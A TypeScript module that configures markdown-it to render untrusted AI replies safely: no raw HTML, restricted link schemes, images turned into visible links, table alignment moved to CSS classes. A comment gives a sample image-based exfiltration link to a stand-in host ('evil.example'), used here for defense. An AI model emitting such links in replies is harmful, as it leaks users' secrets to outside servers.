import MarkdownIt from 'markdown-it'
import type { RendererRule, StateCore, Token } from 'markdown-it'
import { highlightCode, type HighlightBudget } from './highlight.ts'
import { escapeHtml, isAllowedUrl } from './urls.ts'

/**
 * What one render carries through markdown-it: the id prefix, the code ids handed out so far, and
 * what is left of the reply's highlighting budget (its code blocks share one).
 */
export type RenderEnv = { idPrefix: string; codeIds: string[]; highlightBudget: HighlightBudget }

/**
 * markdown-it, CommonMark plus GFM tables and strikethrough, configured for untrusted text:
 * - `html: false`: raw HTML in the reply is escaped and shown as text, never parsed as markup;
 * - links and autolinks only to absolute http, https or mailto URLs (`isAllowedUrl`); any other
 *   `[text](url)` stays literal text, so the person still sees what the model wrote;
 * - bare URLs are linked only when they carry a scheme: `fuzzyLink` would turn `main.py` into a
 *   link to Paraguay;
 * - no typographer: replies are full of code-like text that smart quotes would corrupt.
 * Its output still goes through the sanitizer: this is the first line, not the last.
 */
export const parser = new MarkdownIt('default', { html: false, linkify: true, typographer: false })
parser.linkify.set({ fuzzyLink: false, fuzzyEmail: false, fuzzyIP: false })
parser.validateLink = isAllowedUrl
parser.core.ruler.after('inline', 'task_lists', markTaskLists)

const rules = parser.renderer.rules
rules.fence = (tokens, idx, _options, env) => codeBlock(tokens[idx]!.content, firstWord(tokens[idx]!.info), envOf(env))
rules.code_block = (tokens, idx, _options, env) => codeBlock(tokens[idx]!.content, '', envOf(env))
rules.image = renderImage
rules.table_open = () => '<div class="md-table"><table>\n'
rules.table_close = () => '</table></div>\n'
rules.th_open = alignedCell
rules.td_open = alignedCell
rules.task_marker = (tokens, idx) => `<span class="md-task">${tokens[idx]!.meta?.checked ? '☑' : '☐'}</span> `

function envOf(env: unknown): RenderEnv {
  const candidate = env as Partial<RenderEnv> | undefined
  if (typeof candidate?.idPrefix !== 'string' || !Array.isArray(candidate.codeIds) || typeof candidate.highlightBudget?.chars !== 'number') {
    throw new Error('markdown: render through renderMarkdown(), which supplies the id prefix')
  }
  return candidate as RenderEnv
}

/** The fence's info string is `lang attrs...`: only the first word names the language. */
function firstWord(info: string): string {
  return info.trim().split(/\s+/, 1)[0] ?? ''
}

/**
 * A code block: a header with the language and a Copy button, then the highlighted code. The
 * button names the code element by id (`PREFIX-code-N`), which public/copy.js copies from; ids are
 * recorded in the env so the sanitizer keeps these and nothing else.
 */
function codeBlock(code: string, language: string, env: RenderEnv): string {
  const id = `${env.idPrefix}-code-${env.codeIds.length + 1}`
  env.codeIds.push(id)
  // markdown-it keeps the newline before the closing fence: not part of the code, nor of a copy
  const highlighted = highlightCode(code.replace(/\n$/, ''), language, env.highlightBudget)
  const classes = highlighted.language ? `hljs language-${highlighted.language}` : 'hljs'
  return (
    '<div class="code-block">' +
    `<div class="code-block-header"><span class="code-block-lang">${escapeHtml(highlighted.label)}</span>` +
    `<button type="button" class="copy-code" data-copy-target="${id}">Copy</button></div>` +
    `<pre><code id="${id}" class="${classes}">${highlighted.html}</code></pre>` +
    '</div>\n'
  )
}

/**
 * No image loads: a remote image is a way to send data out (`![x](https://evil.example/?secret=...)`
 * fetches as soon as the reply is shown). An image becomes a link naming its alt text, followed by
 * the URL in full, so the person sees where it points and can choose to open it. Inside a link (a
 * linked badge) it is plain text: a link cannot hold another link.
 */
function renderImage(tokens: Token[], idx: number): string {
  const token = tokens[idx]!
  const src = String(token.attrGet('src') ?? '')
  const alt = inlineText(token.children ?? [])
  const label = escapeHtml(alt ? `Image: ${alt}` : 'Image')
  if (insideLink(tokens, idx)) return `${label} (${escapeHtml(src)})`
  return `<a class="md-image" href="${escapeHtml(src)}">${label}</a> <span class="md-image-url">${escapeHtml(src)}</span>`
}

function insideLink(tokens: Token[], idx: number): boolean {
  let depth = 0
  for (let i = idx - 1; i >= 0; i--) {
    const type = tokens[i]!.type
    if (type === 'link_close') depth--
    else if (type === 'link_open') depth++
  }
  return depth > 0
}

/** The text of inline tokens with the markup dropped (alt text, plain-text export). */
export function inlineText(tokens: Token[]): string {
  let text = ''
  for (const token of tokens) {
    if (token.type === 'text' || token.type === 'code_inline') text += token.content
    else if (token.type === 'softbreak' || token.type === 'hardbreak') text += '\n'
    else if (token.children) text += inlineText(token.children)
  }
  return text
}

/**
 * markdown-it aligns table cells with a `style` attribute; the page's CSP refuses inline styles
 * and the sanitizer drops them, so alignment becomes a class (`md-align-right`) styled in
 * public/markdown.css.
 */
function alignedCell(...[tokens, idx, options, , self]: Parameters<RendererRule>): string {
  const token = tokens[idx]!
  const align = /text-align:\s*(left|center|right)/.exec(String(token.attrGet('style') ?? ''))?.[1]
  token.attrs = (token.attrs ?? []).filter(([name]) => name !== 'style')
  if (align) token.attrJoin('class', `md-align-${align}`)
  return self.renderToken(tokens, idx, options)
}

/**
 * GitHub task lists (`- [ ] todo`, `- [x] done`) as a box character, not a disabled checkbox:
 * replies hold no form controls at all.
 */
function markTaskLists(state: StateCore): void {
  const tokens = state.tokens
  for (let i = 2; i < tokens.length; i++) {
    const inline = tokens[i]!
    if (inline.type !== 'inline' || tokens[i - 1]!.type !== 'paragraph_open' || tokens[i - 2]!.type !== 'list_item_open') continue
    const first = inline.children?.[0]
    const match = first?.type === 'text' ? /^\[([ xX])\][ \t]+/.exec(first.content) : null
    if (!first || !match) continue
    first.content = first.content.slice(match[0].length)
    const marker = new state.Token('task_marker', '', 0)
    marker.meta = { checked: match[1] !== ' ' }
    inline.children!.unshift(marker)
    tokens[i - 2]!.attrJoin('class', 'task-list-item')
  }
}
